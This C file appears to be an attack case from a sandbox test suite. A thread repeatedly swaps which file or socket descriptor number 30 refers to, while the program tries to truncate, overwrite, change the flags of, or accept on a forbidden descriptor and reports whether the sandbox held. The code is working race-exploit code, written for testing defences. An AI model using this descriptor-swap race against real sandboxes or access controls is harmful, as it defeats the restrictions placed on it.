// A call may be made on one descriptor and not on another: a thread swaps which of the two a number stands for.
#include "attack.h"
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/uio.h>
enum { SWAPPED = 30 };
static int allowed, forbidden;
static volatile int done;
static void *swap(void *unused) {
    while (!done) {
        dup2(allowed, SWAPPED);
        dup2(forbidden, SWAPPED);
    }
    return unused;
}
// Whether the forbidden descriptor shows that the call reached it.
static int truncated(void) {
    (void)!ftruncate(SWAPPED, 0);
    struct stat status;
    return fstat(forbidden, &status) == 0 && status.st_size == 0;
}
static int truncated_by_old_call(void) {
    long answer;
    // ftruncate is 93 in the table of i386.
    __asm__ volatile("int $0x80" : "=a"(answer) : "a"(93), "b"(SWAPPED), "c"(0) : "memory", "r8", "r9", "r10", "r11");
    struct stat status;
    return fstat(forbidden, &status) == 0 && status.st_size == 0;
}
// What may only be added to is changed at its beginning, RWF_NOAPPEND is 0x20 (linux/fs.h); looking is not free.
static int overwritten(void) {
    static int count;
    char name[256], first = 'a';
    struct iovec part = {"X", 1};
    syscall(SYS_pwritev2, SWAPPED, &part, 1, 0, 0, 0x20);
    if (++count % 64) return 0;
    snprintf(name, sizeof name, "%s/log", arena);
    int reader = open(name, O_RDONLY);
    (void)!read(reader, &first, 1);
    close(reader);
    return first != 'a';
}
static int emptied_of_flags(void) {
    fcntl(SWAPPED, F_SETFL, O_ASYNC);
    return !(fcntl(forbidden, F_GETFL) & O_APPEND);
}
static int nonblocking(void) {
    int on = 1;
    ioctl(SWAPPED, FIONBIO, &on);
    return fcntl(forbidden, F_GETFL) & O_NONBLOCK;
}
static int flagged(void) {
    fcntl(SWAPPED, F_SETFL, O_APPEND);
    return fcntl(forbidden, F_GETFL) & O_APPEND;
}
// The forbidden socket has a connection waiting, the other has none.
static int accepted(void) {
    return accept(SWAPPED, NULL, NULL) >= 0;
}
int main(int argc, char **argv) {
    begin(argv);
    const char *way = argv[2];
    int threads = argc > 3 ? atoi(argv[3]) : 1;
    int (*attempt)(void) = NULL;
    if (!strcmp(way, "truncate")) attempt = truncated;
    if (!strcmp(way, "control")) attempt = nonblocking;
    if (!strcmp(way, "flags")) attempt = flagged;
    if (!strcmp(way, "accept")) attempt = accepted;
    if (!strcmp(way, "old truncate")) attempt = truncated_by_old_call;
    if (!strcmp(way, "overwrite")) attempt = overwritten;
    if (!strcmp(way, "no append")) attempt = emptied_of_flags;
    if (!attempt) return 9;
    if (attempt == accepted) {
        allowed = 3;
        forbidden = 4;
        struct sockaddr_in address;
        socklen_t length = sizeof address;
        if (getsockname(forbidden, (void *)&address, &length) < 0) return 9;
        int client = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(client, (void *)&address, length) < 0) return 9;
        fcntl(allowed, F_SETFL, O_NONBLOCK);
        fcntl(forbidden, F_SETFL, O_NONBLOCK);
    } else {
        allowed = open(open_file, O_RDWR);
        int adds = attempt == overwritten || attempt == emptied_of_flags;
        snprintf(secret, sizeof secret, "%s/log", arena);
        forbidden = adds ? open(secret, O_WRONLY | O_APPEND) : open(readonly, O_RDWR);
        if (!adds) (void)!write(forbidden, "fixed\n", 6);
    }
    if (allowed < 0 || forbidden < 0) return 9;
    // RWF_NOAPPEND is from Linux 6.9.
    struct iovec part = {"x", 1};
    if (attempt == overwritten && syscall(SYS_pwritev2, allowed, &part, 1, 0, 0, 0x20) < 0 && errno == EOPNOTSUPP) return 5;
    pthread_t thread;
    for (int i = 0; i < threads; i++) pthread_create(&thread, NULL, swap, NULL);
    int wins = 0;
    // Bare, a try is so short that a swap rarely falls into it.
    long count = argc > 4 ? atol(argv[4]) : 5 * tries();
    for (long i = 0; i < count && !wins; i++) wins = attempt() != 0;
    return won_if(wins, way) ? WON : HELD;
}
